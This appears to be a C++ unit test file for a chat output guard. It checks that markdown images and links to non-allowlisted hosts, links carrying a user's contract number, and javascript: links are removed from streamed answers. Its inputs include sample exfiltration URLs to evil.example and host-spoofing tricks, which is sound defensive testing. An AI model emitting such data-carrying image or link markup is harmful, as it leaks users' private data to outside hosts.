// Images and links: what is taken out, what stays, and that it never depends on how the answer was cut.
#include <gtest/gtest.h>

#include "chat/output/guards.h"
#include "chat/output/test_answer.h"

namespace bulwark::chat::output {
namespace {

Asked links() {
  Asked asked;
  asked.settings.links = Mode::mask;
  asked.settings.hosts = {"cdn.acme.example", "*.trusted.example"};
  asked.user = "My contract number is KX-2291-7734-0019, please summarise.";
  return asked;
}

void expect(std::string_view text, std::string_view wanted) {
  for (const std::size_t size : {1U, 2U, 3U, 7U, 1000U})
    EXPECT_EQ(answer(links(), pieces(text, size)).text, wanted) << "pieces of " << size;
}

TEST(Links, ImagesOfStrangeHostsGo) {
  expect("See ![chart](https://evil.example/p.png?d=abc) now", "See [image removed] now");
  expect("![](//evil.example/x)", "[image removed]");
  expect("![a [b] c](https://evil.example/a(b)c.png \"title\") ok", "[image removed] ok");
  expect("![x][r]\n\n[r]: https://evil.example/x.png\n", "![x][r]\n\n[image removed]\n");
  expect("![ok](https://cdn.acme.example/logo.png) ![ok](https://a.trusted.example/b)",
         "![ok](https://cdn.acme.example/logo.png) ![ok](https://a.trusted.example/b)");
  expect("![no](https://cdn.acme.example@evil.example/logo.png)", "[image removed]");
  expect("![no](https://cdn.acme.example.evil.example/logo.png)", "[image removed]");
}

TEST(Links, LinksGoOnlyWhenTheyCarryDataOrRun) {
  expect("Read https://docs.python.org/3/library/re.html?highlight=match#re.search today.",
         "Read https://docs.python.org/3/library/re.html?highlight=match#re.search today.");
  expect("[click](https://evil.example/?q=KX-2291-7734-0019)", "[link removed]");
  expect("go to https://evil.example/?q=KX-2291-7734-0019 now", "go to [link removed] now");
  expect("https://evil.example/" + std::string(80, 'Q') + " x", "[link removed] x");
  expect("[run](javascript:alert(1))", "[link removed]");
  expect("an array a[1] and a ratio [x] (y), h, ht, http", "an array a[1] and a ratio [x] (y), h, ht, http");
}

TEST(Links, CodeBlocksAreShownNotLoaded) {
  const std::string code = "```md\n![x](https://evil.example/a.png)\n```\n";
  expect(code, code);
  expect(code + "![x](https://evil.example/a.png)", code + "[image removed]");
  expect("`![x](https://evil.example/a.png)", "`[image removed]");  // an unclosed backtick is no code
  expect(" ```\n![x](https://evil.example/a.png)\n", " ```\n[image removed]\n");
}

TEST(Links, AnEndlessConstructIsNotHeldForEver) {
  const Answer made = answer(links(), {"![" + std::string(600, 'a'), std::string(600, 'b')});
  EXPECT_FALSE(made.steps.back().empty());
  const Answer url = answer(links(), pieces("https://evil.example/" + std::string(20'000, 'a'), 100));
  EXPECT_EQ(url.text.find("evil"), std::string::npos) << url.text.substr(0, 100);
}

TEST(Links, FindsTheHostThatABrowserWouldAsk) {
  EXPECT_EQ(host_of("https://user:p@Evil.Example:8443/x@y"), "evil.example");
  EXPECT_EQ(host_of("//evil.example?x"), "evil.example");
  EXPECT_EQ(host_of("https://evil.example./"), "evil.example");
  EXPECT_EQ(host_of("/relative/path"), "");
}

}  // namespace
}  // namespace bulwark::chat::output
